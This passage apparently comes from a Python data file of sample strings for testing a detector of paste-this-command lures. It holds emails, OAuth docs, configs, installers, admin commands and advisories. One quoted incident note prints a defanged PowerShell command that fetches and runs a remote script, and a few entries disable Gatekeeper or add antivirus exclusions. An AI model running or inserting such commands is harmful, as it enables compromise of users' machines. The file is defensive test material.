        "Reminder: the office Wi-Fi password changes on Monday. The new one is on the intranet page IT > Wi-Fi. Problems connecting? Call the IT helpdesk on extension 4100.",
    ),
    (
        "outlook",
        "Your appointment at Harrowfield Dental is confirmed for Tue 14 Jan at 10:30. To reschedule call 020 5555 0190.",
    ),
    (
        "outlook",
        "Hi team, the VPN certificate expires on Friday. Open the Company Portal and install 'VPN Profile 2026' before then. Any trouble, call the service desk on 4100 or raise a ticket.",
    ),
    (
        "outlook",
        "Hallo zusammen, am Samstag werden die Server gewartet (8-12 Uhr). Währenddessen ist das ERP nicht erreichbar. Bei Fragen: IT-Hotline, Durchwahl 4100.",
    ),
    (
        "outlook",
        "Bonjour à tous, une maintenance est prévue ce week-end. Les imprimantes du 3e étage seront indisponibles samedi matin. Support : poste 4100.",
    ),
    (
        "outlook",
        "Your package could not be delivered today because no one was home. We will try again tomorrow. Track it at https://track.quillmere.example/ZX31 or call 0800 555 0123 to arrange a new time.",
    ),
    (
        "teams",
        "Hey, the shared printer on floor 2 is jammed again. Facilities said call 5555 or drop a ticket in ServiceNow.",
    ),
    ("slack", "reminder: all-hands moved to 3pm. dial-in +1 555 0100 pin 4411# if you're remote"),
    (
        "outlook",
        "Your flight LH 2031 on 12 Dec is confirmed. Seat 14C. Manage your booking at https://www.lufthansa.com/mmb or call +49 69 5555 0100.",
    ),
    (
        "outlook",
        "Thanks for contacting Harrowfield Support. Your case number is 00418830. A technician will reply within one business day. You can also call us at +44 20 5555 0100 and quote the case number.",
    ),
    (
        "outlook",
        "New sign-in to your Harrowfield account from Chrome on Windows in Berlin. If this was you, you don't need to do anything. If not, change your password in account settings.",
    ),
]

# (f) OAuth / OIDC docs and developer notes
SWEEP_OAUTH = [
    (
        "https://developer.okta.com/docs/guides/implement-grant-type/authcode/main/",
        "https://{yourOktaDomain}/oauth2/default/v1/authorize?client_id=0oabucvy&response_type=code&scope=openid&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fauthorization-code%2Fcallback&state=state-296bc9a0",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "curl --request POST --url 'https://{yourDomain}/oauth/token' --header 'content-type: application/x-www-form-urlencoded' --data grant_type=authorization_code --data 'client_id={yourClientId}' --data code_verifier={yourGeneratedCodeVerifier} --data code={yourAuthorizationCode} --data 'redirect_uri={https://yourApp/callback}'",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "POST /{tenant}/oauth2/v2.0/token HTTP/1.1\nHost: login.microsoftonline.com\nContent-Type: application/x-www-form-urlencoded\n\nclient_id=11111111-1111-1111-1111-111111111111&scope=https%3A%2F%2Fgraph.microsoft.com%2Fmail.read&code=OAAABAAAAiL9Kn2Z27UubvWFPbm0gLWQJVzCTE9UkP3pSx1aXxUjq3n8b2JRLk4OxVXr&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F&grant_type=authorization_code",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "https://oauth2.googleapis.com/token\ncode=4/P7q7W91a-oMsCeLvIaQm6bTrgtp7&client_id=your_client_id&client_secret=your_client_secret&redirect_uri=http://127.0.0.1:9004&grant_type=authorization_code",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "GET https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri=http://localhost:3000/callback&scope=read:user&state=abc123",
    ),
    (
        "https://www.keycloak.org/docs/latest/securing_apps/",
        "curl -X POST 'http://localhost:8080/realms/myrealm/protocol/openid-connect/token' -d 'client_id=myclient' -d 'username=alice' -d 'password=alice' -d 'grant_type=password'",
    ),
    (
        "https://openid.net/specs/openid-connect-discovery-1_0.html",
        "curl https://accounts.google.com/.well-known/openid-configuration | jq .token_endpoint",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8628",
        "POST /device_authorization HTTP/1.1\nHost: server.example.com\nContent-Type: application/x-www-form-urlencoded\n\nclient_id=1406020730&scope=example_scope",
    ),
    (
        "https://github.com/harrowfield/api-gateway/blob/main/docs/auth.md",
        "export TOKEN=$(curl -s -X POST https://auth.harrowfield.example/oauth/token -d grant_type=client_credentials -d client_id=$CLIENT_ID -d client_secret=$CLIENT_SECRET | jq -r .access_token)",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth login --no-launch-browser",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "aws configure sso --profile dev\naws sso login --profile dev",
    ),
    (
        "https://github.com/harrowfield/web-app/blob/main/.env.example",
        "OIDC_ISSUER=https://login.microsoftonline.com/<tenant-id>/v2.0\nOIDC_CLIENT_ID=<client-id>\nOIDC_REDIRECT_URI=http://localhost:5173/auth/callback",
    ),
    (
        "https://jwt.io/introduction",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    ),
    (
        "https://oauth.net/2/pkce/",
        "code_challenge = BASE64URL-ENCODE(SHA256(ASCII(code_verifier)))",
    ),
]

# (g) Run-box and Explorer entries people type or IT wikis give
SWEEP_RUNBOX = [
    "%appdata%\\Microsoft\\Teams",
    "%localappdata%\\Microsoft\\Outlook",
    "\\\\fs01\\scans",
    "\\\\nas.local\\photos\\2025",
    "shell:sendto",
    "shell:common startup",
    "control /name Microsoft.CredentialManager",
    "control keyboard",
    "rundll32.exe keymgr.dll,KRShowKeyMgr",
    "mstsc /v:ts01.corp.example",
    "notepad C:\\Windows\\System32\\drivers\\etc\\hosts",
    "msinfo32",
    "resmon",
    "optionalfeatures",
    "winver",
    "sysdm.cpl,,3",
    "powercfg.cpl",
    "firewall.cpl",
    "inetcpl.cpl",
    "devmgmt.msc",
    "wf.msc",
    "certmgr.msc",
    "ms-settings:bluetooth",
    "ms-settings:sound",
    "osk",
    "snippingtool",
    "calc",
    "cleanmgr /d C",
    "C:\\Program Files\\Microsoft Office\\root\\Office16",
    "%USERPROFILE%\\Downloads",
]
SWEEP_EXPLORER = [
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
    "\\\\fileserver01\\Finance\\2025\\Q4",
    "%TEMP%",
    "shell:RecycleBinFolder",
    "Control Panel\\All Control Panel Items\\Credential Manager",
    "This PC\\Documents",
    "%ProgramFiles%\\Common Files",
    "\\\\printsrv",
    "OneDrive - Harrowfield\\Shared\\Templates",
    "ftp://ftp.harrowfield.example/pub/",
]

# (h) config and log snippets, CI YAML, Dockerfiles
SWEEP_CONFIG = [
    (
        "https://docs.github.com/en/actions/use-cases-and-examples/building-and-testing/building-and-testing-python",
        "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n      - run: pytest -q",
    ),
    (
        "https://docs.gitlab.com/ee/ci/yaml/",
        "stages: [build, test]\nbuild:\n  stage: build\n  image: node:20\n  script:\n    - npm ci\n    - npm run build\n  artifacts:\n    paths: [dist/]",
    ),
    (
        "https://github.com/harrowfield/web-app/blob/main/.github/workflows/deploy.yml",
        "- name: Install uv\n  run: curl -LsSf https://astral.sh/uv/install.sh | sh\n- name: Sync\n  run: uv sync --frozen",
    ),
    (
        "https://github.com/quillmere/rust-cli/blob/main/.github/workflows/ci.yml",
        "- name: Install Rust\n  run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n- run: cargo test --all-features",
    ),
    (
        "https://docs.docker.com/build/building/best-practices/",
        'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]',
    ),
    (
        "https://github.com/harrowfield/api/blob/main/Dockerfile",
        "FROM node:20-alpine AS build\nWORKDIR /src\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\n\nFROM nginx:1.27-alpine\nCOPY --from=build /src/dist /usr/share/nginx/html",
    ),
    (
        "https://github.com/quillmere/tools-image/blob/main/Dockerfile",
        "FROM ubuntu:24.04\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates git \\\n    && rm -rf /var/lib/apt/lists/*\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs",
    ),
    (
        "https://github.com/quillmere/go-svc/blob/main/Dockerfile",
        'FROM golang:1.23 AS build\nWORKDIR /src\nCOPY . .\nRUN CGO_ENABLED=0 go build -o /out/svc ./cmd/svc\nFROM gcr.io/distroless/static\nCOPY --from=build /out/svc /svc\nENTRYPOINT ["/svc"]',
    ),
    (
        "https://docs.docker.com/compose/gettingstarted/",
        'services:\n  web:\n    build: .\n    ports:\n      - "8000:5000"\n  redis:\n    image: "redis:alpine"',
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: nginx-deployment\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n      - name: nginx\n        image: nginx:1.27\n        ports:\n        - containerPort: 80",
    ),
    (
        "https://github.com/harrowfield/infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackages:\n  - nginx\n  - fail2ban\nruncmd:\n  - systemctl enable --now nginx\n  - ufw allow 'Nginx Full'",
    ),
    (
        "https://nginx.org/en/docs/http/configuring_https_servers.html",
        "server {\n    listen 443 ssl;\n    server_name www.harrowfield.example;\n    ssl_certificate /etc/ssl/certs/www.crt;\n    ssl_certificate_key /etc/ssl/private/www.key;\n}",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/eventlog/",
        "Log Name:      Security\nSource:        Microsoft-Windows-Security-Auditing\nEvent ID:      4625\nTask Category: Logon\nKeywords:      Audit Failure\nAccount Name:  jsmith\nFailure Reason: Unknown user name or bad password.",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "Invoke-WebRequest : The remote server returned an error: (403) Forbidden.\nAt line:1 char:1\n+ Invoke-WebRequest -Uri https://api.harrowfield.example/v1/items\n+ ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~\n    + CategoryInfo          : InvalidOperation",
    ),
    (
        "https://github.com/harrowfield/web-app/issues/412",
        'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@18.3.1\nnpm ERR! Could not resolve dependency: peer react@"^17.0.0" from legacy-widget@2.1.0',
    ),
    (
        "https://github.com/quillmere/api/issues/77",
        "Traceback (most recent call last):\n  File \"/app/main.py\", line 12, in <module>\n    import requests\nModuleNotFoundError: No module named 'requests'",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/devops/pipelines/yaml-schema/",
        "trigger:\n- main\npool:\n  vmImage: windows-latest\nsteps:\n- task: UseDotNet@2\n  inputs:\n    version: '8.x'\n- script: dotnet test --configuration Release",
    ),
    (
        "https://circleci.com/docs/configuration-reference/",
        "version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/python:3.12\n    steps:\n      - checkout\n      - run: pip install -r requirements.txt && pytest",
    ),
    (
        "https://github.com/harrowfield/infra/blob/main/ansible/site.yml",
        "- hosts: web\n  become: true\n  tasks:\n    - name: Install packages\n      ansible.builtin.apt:\n        name: [nginx, git]\n        state: present\n        update_cache: true",
    ),
    (
        "https://developer.hashicorp.com/terraform/tutorials/aws-get-started/aws-build",
        'resource "aws_instance" "app_server" {\n  ami           = "ami-830c94e3"\n  instance_type = "t2.micro"\n  tags = {\n    Name = "ExampleAppServerInstance"\n  }\n}',
    ),
    (
        "https://github.com/quillmere/site/blob/main/.gitlab-ci.yml",
        "pages:\n  image: alpine:latest\n  script:\n    - apk add --no-cache hugo\n    - hugo --minify -d public\n  artifacts:\n    paths:\n      - public",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/wes/",
        "2025-12-01 09:12:44 ERROR [Updater] Download of https://updates.harrowfield.example/app/2.4.1/setup.msi failed: 404 Not Found; retrying in 300 s",
    ),
    (
        "https://github.com/harrowfield/agent/blob/main/config.example.toml",
        '[agent]\ninterval = "10s"\nhostname = ""\n[[outputs.influxdb_v2]]\nurls = ["http://127.0.0.1:8086"]\ntoken = "$INFLUX_TOKEN"',
    ),
    (
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",
        '- name: Run script\n  env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "$TITLE"',
    ),
    (
        "https://github.com/quillmere/win-app/blob/main/.github/workflows/release.yml",
        "- name: Install WiX\n  run: dotnet tool install --global wix\n- name: Build MSI\n  shell: pwsh\n  run: wix build -o out/app.msi installer/Product.wxs",
    ),
]

# (i) MDM / Intune scripts and EDR exclusion docs
SWEEP_MDM = [
    (
        "https://learn.microsoft.com/en-us/mem/intune/apps/apps-win32-app-management",
        '# Detection rule: return 0 and write output when installed\nif (Test-Path "C:\\Program Files\\Contoso\\Agent\\agent.exe") { Write-Output "Installed"; exit 0 } else { exit 1 }',
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/fundamentals/remediations",
        "$key = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU'\nif ((Get-ItemProperty -Path $key -Name NoAutoUpdate -ErrorAction SilentlyContinue).NoAutoUpdate -eq 1) { exit 1 } else { exit 0 }",
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/apps/apps-win32-prepare",
        "IntuneWinAppUtil.exe -c C:\\Packages\\Agent -s setup.exe -o C:\\Packages\\Out -q",
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/apps/apps-win32-add",
        "msiexec /x {A1B2C3D4-E5F6-7890-ABCD-EF1234567890} /qn /norestart",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/configure-exclusions-microsoft-defender-antivirus",
        'Set-MpPreference -ExclusionProcess "C:\\Program Files\\Contoso\\Backup\\backupsvc.exe"',
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/configure-exclusions-microsoft-defender-antivirus",
        "Get-MpPreference | Select-Object -Property ExclusionPath, ExclusionProcess, ExclusionExtension",
    ),
    (
        "https://docs.sophos.com/central/customer/help/en-us/ManageYourProducts/GlobalSettings/GlobalExclusions/",
        "Exclusion type: Process\nValue: C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe\nActive for: Real-time scanning",
    ),
    (
        "https://www.jamf.com/resources/",
        "#!/bin/bash\n# Jamf policy script: set the computer name from the serial number\nserial=$(system_profiler SPHardwareDataType | awk '/Serial/ {print $4}')\nscutil --set ComputerName \"MAC-$serial\"\njamf recon",
    ),
    (
        "https://support.kandji.io/",
        "sudo /usr/local/bin/kandji-cli status\nsudo profiles list | grep -i kandji",
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/configuration/custom-settings-windows-10",
        "./Device/Vendor/MSFT/Policy/Config/Defender/ExcludedPaths\nData type: String\nValue: C:\\BuildAgent\\work",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/mdm/",
        "Get-CimInstance -Namespace root/cimv2/mdm/dmmap -ClassName MDM_DevDetail_Ext01 | Select-Object DeviceHardwareData",
    ),
    (
        "https://learn.microsoft.com/en-us/autopilot/add-devices",
        "Install-Script -Name Get-WindowsAutopilotInfo -Force\nGet-WindowsAutopilotInfo -OutputFile C:\\HWID\\AutopilotHWID.csv",
    ),
    (
        "https://support.crowdstrike.com/",
        'sc query csagent\nreg query "HKLM\\SYSTEM\\CrowdStrike\\{9b03c1d9-3138-44ed-9fae-d9f4c034b88d}\\{16e0423f-7058-48c9-a204-725362b67639}\\Default" /v AG',
    ),
    (
        "https://docs.microsoft.com/en-us/sccm/",
        'WMIC /namespace:\\\\root\\ccm path sms_client CALL TriggerSchedule "{00000000-0000-0000-0000-000000000021}" /NOINTERACTIVE',
    ),
    (
        "https://learn.microsoft.com/en-us/mem/configmgr/core/clients/deploy/about-client-installation-properties",
        "ccmsetup.exe /mp:sccm01.corp.example SMSSITECODE=PS1 /forceinstall",
    ),
]

# second batch of the sweep: more pages, languages and shapes
SWEEP_QUOTED_INSTALLERS += [
    (
        "https://github.com/harrowfield/dev-containers",
        "curl -fsSL https://code-server.dev/install.sh | sh",
    ),
    (
        "https://github.com/harrowfield/dev-containers",
        "curl -fsSL https://raw.githubusercontent.com/devcontainers/cli/main/scripts/install.sh | sh",
    ),
    (
        "https://github.com/quillmere/observability-lab",
        "curl -fsSL https://raw.githubusercontent.com/grafana/loki/main/tools/promtail.sh | sh -s 1234 glc_abc logs-prod-012.grafana.net default",
    ),
    (
        "https://github.com/quillmere/edge-functions",
        "npm install -g wrangler@latest\nwrangler login",
    ),
    ("https://github.com/quillmere/edge-functions", "npm i -g vercel && vercel link"),
    (
        "https://github.com/harrowfield/mobile-app",
        "sudo gem install cocoapods\npod install --project-directory=ios",
    ),
    ("https://github.com/harrowfield/data-pipeline", "pipx install dbt-core dbt-postgres"),
    ("https://github.com/harrowfield/data-pipeline", "curl -fsSL https://get.dagster.io | sh"),
    ("https://github.com/quillmere/embedded-fw", "pip install platformio && pio run -t upload"),
    (
        "https://github.com/quillmere/embedded-fw",
        "curl -fsSL https://raw.githubusercontent.com/platformio/platformio-core-installer/master/get-platformio.py -o get-platformio.py\npython3 get-platformio.py",
    ),
    (
        "https://github.com/harrowfield/latex-thesis",
        "wget https://mirror.ctan.org/systems/texlive/tlnet/install-tl-unx.tar.gz\ntar -xzf install-tl-unx.tar.gz\ncd install-tl-*\nsudo perl ./install-tl --no-interaction",
    ),
    (
        "https://github.com/quillmere/elixir-api",
        "curl -fsSO https://elixir-lang.org/install.sh\nsh install.sh elixir@1.17.3 otp@27.1.2",
    ),
    ("https://github.com/quillmere/zig-tools", "snap install zig --classic --beta"),
    (
        "https://github.com/harrowfield/php-site",
        "php -r \"copy('https://getcomposer.org/installer', 'composer-setup.php');\"\nphp composer-setup.php\nphp -r \"unlink('composer-setup.php');\"",
    ),
    (
        "https://github.com/harrowfield/crystal-cli",
        "curl -fsSL https://crystal-lang.org/install.sh | sudo bash",
    ),
    (
        "https://github.com/quillmere/swift-server",
        "curl -O https://download.swift.org/swiftly/linux/swiftly-$(uname -m).tar.gz && tar zxf swiftly-$(uname -m).tar.gz && ./swiftly init --quiet-shell-followup",
    ),
    ("https://github.com/quillmere/dart-cli", "brew tap dart-lang/dart\nbrew install dart"),
    (
        "https://github.com/harrowfield/mono-tools",
        "curl -fsSL https://moonrepo.dev/install/moon.sh | bash",
    ),
    (
        "https://github.com/harrowfield/mono-tools",
        "curl https://get.volta.sh | bash -s -- --skip-setup",
    ),
    (
        "https://github.com/quillmere/security-tools",
        "go install github.com/projectdiscovery/nuclei/v3/cmd/nuclei@latest",
    ),
    (
        "https://github.com/quillmere/security-tools",
        "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "https://github.com/quillmere/security-tools",
        "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin v0.57.1",
    ),
    ("https://github.com/harrowfield/git-hooks", "pip install pre-commit && pre-commit install"),
    (
        "https://github.com/harrowfield/git-hooks",
        "curl -sSfL https://raw.githubusercontent.com/gitleaks/gitleaks/master/scripts/install.sh | sh",
    ),
    ("https://docs.quillmere.example/install", "winget install Microsoft.DotNet.SDK.8"),
    ("https://docs.quillmere.example/install", "choco install nodejs-lts -y"),
    (
        "https://docs.quillmere.example/install",
        "scoop bucket add extras\nscoop install extras/vscode",
    ),
]

SWEEP_ADMIN += [
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/",
        "DISM /Online /Cleanup-Image /RestoreHealth\nsfc /scannow",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/chkdsk",
        "chkdsk C: /scan",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-eventlog",
        "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq 'Error' | Format-Table TimeCreated, Id, Message -Wrap",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/smbshare/new-smbshare",
        "New-SmbShare -Name Projects -Path D:\\Projects -FullAccess CORP\\Projects-RW -ReadAccess CORP\\Staff",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/icacls",
        'icacls D:\\Projects /grant "CORP\\Projects-RW:(OI)(CI)M" /T',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/networking/dns/",
        "Resolve-DnsName intranet.corp.example -Type A -Server 10.0.0.10",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/nettcpip/test-netconnection",
        "Test-NetConnection smtp.office365.com -Port 587",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/",
        "Get-Printer | Where-Object PrinterStatus -ne 'Normal' | Select-Object Name, PrinterStatus",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wevtutil",
        'wevtutil qe Security /q:"*[System[(EventID=4740)]]" /c:5 /rd:true /f:text',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/search-adaccount",
        "Search-ADAccount -LockedOut | Select-Object Name, SamAccountName, LastLogonDate",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/identity-protection/hello-for-business/",
        "certutil -user -store My",
    ),
    (
        "https://superuser.com/questions/372286/how-to-find-the-product-key",
        "wmic path softwarelicensingservice get OA3xOriginalProductKey",
    ),
    (
        "https://superuser.com/questions/1167046/battery-report-windows",
        "powercfg /batteryreport /output C:\\Temp\\battery.html",
    ),
    ("https://superuser.com/questions/1460006/how-to-reset-windows-store-cache", "wsreset.exe"),
    (
        "https://serverfault.com/questions/2429/how-do-you-find-which-user-has-a-file-open",
        "openfiles /query /s fs01 /fo table | findstr /i budget.xlsx",
    ),
    (
        "https://serverfault.com/questions/99380/how-to-check-time-sync",
        "w32tm /query /status\nw32tm /stripchart /computer:dc01.corp.example /samples:5 /dataonly",
    ),
    ("https://www.cyberciti.biz/faq/", "sudo ss -tulpn | grep LISTEN"),
    (
        "https://www.cyberciti.biz/faq/linux-find-largest-file-in-directory-recursively-using-find-du/",
        "sudo du -ahx / | sort -rh | head -20",
    ),
    (
        "https://linuxize.com/post/how-to-add-user-to-sudoers-in-ubuntu/",
        "sudo usermod -aG sudo deploy",
    ),
    (
        "https://linuxize.com/post/how-to-setup-passwordless-ssh-login/",
        'ssh-keygen -t ed25519 -C "me@laptop"\nssh-copy-id deploy@10.0.5.21',
    ),
    (
        "https://wiki.debian.org/UnattendedUpgrades",
        "sudo apt install unattended-upgrades\nsudo dpkg-reconfigure --priority=low unattended-upgrades",
    ),
    (
        "https://docs.fedoraproject.org/en-US/quick-docs/dnf/",
        "sudo dnf upgrade --refresh\nsudo dnf autoremove",
    ),
    (
        "https://wiki.archlinux.org/title/Pacman/Tips_and_tricks",
        "pacman -Qtdq | sudo pacman -Rns -",
    ),
    (
        "https://docs.rockylinux.org/guides/security/",
        "sudo firewall-cmd --permanent --add-service=https && sudo firewall-cmd --reload",
    ),
    (
        "https://www.openssl.org/docs/manmaster/man1/openssl-req.html",
        'openssl req -new -newkey rsa:2048 -nodes -keyout www.key -out www.csr -subj "/CN=www.harrowfield.example"',
    ),
    (
        "https://www.openssl.org/docs/manmaster/man1/openssl-s_client.html",
        "openssl s_client -connect mail.harrowfield.example:443 -servername mail.harrowfield.example </dev/null | openssl x509 -noout -dates",
    ),
    (
        "https://git-scm.com/docs/git-config",
        "git config --global core.autocrlf input\ngit config --global init.defaultBranch main",
    ),
    (
        "https://stackoverflow.com/questions/927358/how-do-i-undo-the-most-recent-local-commits-in-git",
        "git reset --soft HEAD~1",
    ),
    (
        "https://stackoverflow.com/questions/1125968/how-do-i-force-git-pull-to-overwrite-local-files",
        "git fetch --all\ngit reset --hard origin/main",
    ),
    (
        "https://support.apple.com/en-us/102642",
        "sudo killall -HUP mDNSResponder; sudo dscacheutil -flushcache",
    ),
    (
        "https://support.apple.com/guide/terminal/",
        "defaults write com.apple.finder AppleShowAllFiles -bool true; killall Finder",
    ),
    ("https://apple.stackexchange.com/questions/", "sudo spctl --master-disable"),
    ("https://support.apple.com/en-us/108382", "sudo /usr/bin/xcode-select --install"),
    (
        "https://eclecticlight.co/",
        "log show --predicate 'process == \"softwareupdated\"' --last 2h",
    ),
    ("https://www.jamf.com/blog/", "sudo jamf policy -event install-office"),
]

SWEEP_CONSOLE += [
    (
        "https://developer.chrome.com/docs/devtools/storage/cookies",
        "document.cookie.split('; ').map(c => c.split('=')[0])",
    ),
    (
        "https://stackoverflow.com/questions/2255689/how-to-get-the-file-path-of-the-currently-executing-javascript-code",
        "document.currentScript && document.currentScript.src",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/userAgentData",
        "navigator.userAgentData?.getHighEntropyValues(['platformVersion']).then(console.log)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/fonts",
        "document.fonts.ready.then(fs => console.log([...fs].map(f => f.family)))",
    ),
    (
        "https://stackoverflow.com/questions/3895478/does-javascript-have-a-method-like-range",
        "Array.from({length: 10}, (_, i) => i * i)",
    ),
    ("https://developer.chrome.com/docs/devtools/console/reference", "queryObjects(Promise)"),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "getEventListeners(document.querySelector('button.submit'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/URLSearchParams",
        "Object.fromEntries(new URLSearchParams(location.search))",
    ),
    (
        "https://github.com/orgs/community/discussions/",
        "document.querySelectorAll('.js-navigation-open').length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/readText",
        "await navigator.clipboard.readText()",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoft-edge/devtools-guide-chromium/console/",
        "console.table([...document.links].map(a => ({text: a.textContent.trim(), href: a.href})))",
    ),
    (
        "https://stackoverflow.com/questions/1484506/random-color-generator",
        "'#' + Math.floor(Math.random() * 0xffffff).toString(16).padStart(6, '0')",
    ),
]

SWEEP_WRITEUPS += [
    (
        "https://www.cert.ssi.gouv.fr/",
        "Le leurre affiche une fausse vérification « Je ne suis pas un robot » et demande d'appuyer sur Win+R puis de coller une commande. Ne collez jamais une commande proposée par un site web.",
    ),
    (
        "https://www.bsi.bund.de/DE/Service-Navi/Presse/",
        "Die Angreifer fordern dazu auf, Windows+R zu drücken und einen Befehl einzufügen. Das BSI rät: Fügen Sie niemals Befehle aus Webseiten in den Ausführen-Dialog ein.",
    ),
    (
        "https://www.incibe.es/ciudadania/avisos",
        "Aviso: campaña de falsos CAPTCHA que piden pegar un comando en la ventana Ejecutar. Si lo ha hecho, desconecte el equipo de la red y contacte con su servicio técnico.",
    ),
    (
        "https://www.jpcert.or.jp/",
        "偽のCAPTCHA画面で「Windows+R」を押してコマンドを貼り付けるよう指示する手口が確認されています。Webサイトの指示でコマンドを実行しないでください。",
    ),
    (
        "https://www.cert.pl/",
        "Kampania ClickFix: strona prosi o wciśnięcie Win+R i wklejenie polecenia. Nigdy nie wklejaj poleceń ze stron internetowych.",
    ),
    (
        "https://www.ncsc.gov.uk/news",
        "The NCSC is aware of fake browser update pages telling users to paste commands into PowerShell. Organisations should consider restricting PowerShell for standard users.",
    ),
    (
        "https://intranet.quillmere.example/security/notes/2025-12-02",
        'IR note 2025-12-02 (TLP:AMBER)\nHost: WS-0417\nInitial vector: fake CAPTCHA on a travel site\nPasted: powershell -w h -c "iex(iwr hxxps://cdn-verify[.]example/p.ps1)"\nContainment: isolated 10:04, reimaged 13:30\nIOCs added to blocklist.',
    ),
    (
        "https://intranet.quillmere.example/security/notes/2025-11-20",
        "Phishing report #8812: user received a 'document shared' mail linking to hxxps://docs-share[.]example/view. No clicks beyond the reporter. Sender domain blocked at the gateway.",
    ),
    (
        "https://www.welivesecurity.com/en/",
        "The campaign's final payload is a Lumma Stealer build; its C2 list includes several .shop and .xyz domains (defanged in the appendix).",
    ),
    (
        "https://www.mandiant.com/resources/blog",
        "UNC-tracked cluster used compromised WordPress sites to inject a fake Cloudflare Turnstile widget that copied an mshta command to the clipboard.",
    ),
    (
        "https://blog.talosintelligence.com/",
        "Snort SIDs 64210-64214 cover the HTA downloader seen in this campaign.",
    ),
    (
        "https://www.darkreading.com/",
        "Security teams report that ClickFix-style lures now target macOS users too, asking them to paste a command into Terminal under the guise of a DNS fix.",
    ),
]

SWEEP_MAILS += [
    (
        "outlook",
        "Hej! Din beställning 30211 har skickats. Frågor? Ring kundservice på 08-555 010 00 (vardagar 9-17).",
    ),
    (
        "outlook",
        "Dobrý den, vaše objednávka č. 11207 byla odeslána. V případě dotazů volejte zákaznickou linku 222 555 010.",
    ),
    (
        "outlook",
        "Κωδικός παραγγελίας 44120: η παραγγελία σας στάλθηκε. Για ερωτήσεις καλέστε την εξυπηρέτηση πελατών στο 210 555 0100.",
    ),
    (
        "outlook",
        "주문번호 55102의 상품이 발송되었습니다. 문의사항은 고객센터 02-555-0100(평일 9시~18시)으로 연락 주세요.",
    ),
    (
        "outlook",
